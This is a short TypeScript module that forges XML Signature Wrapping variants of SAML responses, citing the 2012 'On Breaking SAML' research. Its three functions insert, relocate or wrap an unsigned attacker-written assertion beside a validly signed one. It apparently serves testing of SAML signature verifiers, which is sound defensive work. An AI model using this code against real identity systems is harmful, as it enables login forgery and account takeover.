import { DOMParser, XMLSerializer } from "@xmldom/xmldom";

/**
 * XML signature wrapping (Somorovsky et al., "On Breaking SAML", 2012): a document whose signature stays valid over
 * the element it covers, with an unsigned element the attacker wrote where a careless reader looks.
 */
const SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol";
const parse = (xml: string) => new DOMParser().parseFromString(xml, "text/xml");
const text = (node: Node) => new XMLSerializer().serializeToString(node as never);

/** The signed assertion of `signedResponse` as it is, plus `evilAssertion` (unsigned) before or after it. */
export function insertAssertion(signedResponse: string, evilAssertion: string, where: "before" | "after") {
  const doc = parse(signedResponse);
  const signed = doc.getElementsByTagNameNS("*", "Assertion")[0]!;
  const evil = doc.importNode(parse(evilAssertion).documentElement!, true);
  signed.parentNode!.insertBefore(evil, where === "before" ? signed : signed.nextSibling);
  return text(doc);
}

/** The signed assertion moved into the Response's Extensions, the attacker's unsigned one in its place. */
export function moveSignedIntoExtensions(signedResponse: string, evilAssertion: string) {
  const doc = parse(signedResponse);
  const response = doc.documentElement!;
  const signed = doc.getElementsByTagNameNS("*", "Assertion")[0]!;
  const extensions = doc.createElementNS(SAMLP, "samlp:Extensions");
  response.insertBefore(extensions, response.getElementsByTagNameNS(SAMLP, "Status")[0]!);
  response.replaceChild(doc.importNode(parse(evilAssertion).documentElement!, true), signed);
  extensions.appendChild(signed);
  return text(doc);
}

/** A new unsigned Response around the attacker's assertion, the original signed Response kept inside its Extensions. */
export function wrapSignedResponse(signedResponse: string, evilResponse: string) {
  const doc = parse(evilResponse);
  const response = doc.documentElement!;
  const extensions = doc.createElementNS(SAMLP, "samlp:Extensions");
  extensions.appendChild(doc.importNode(parse(signedResponse).documentElement!, true));
  response.insertBefore(extensions, response.getElementsByTagNameNS(SAMLP, "Status")[0]!);
  return text(doc);
}
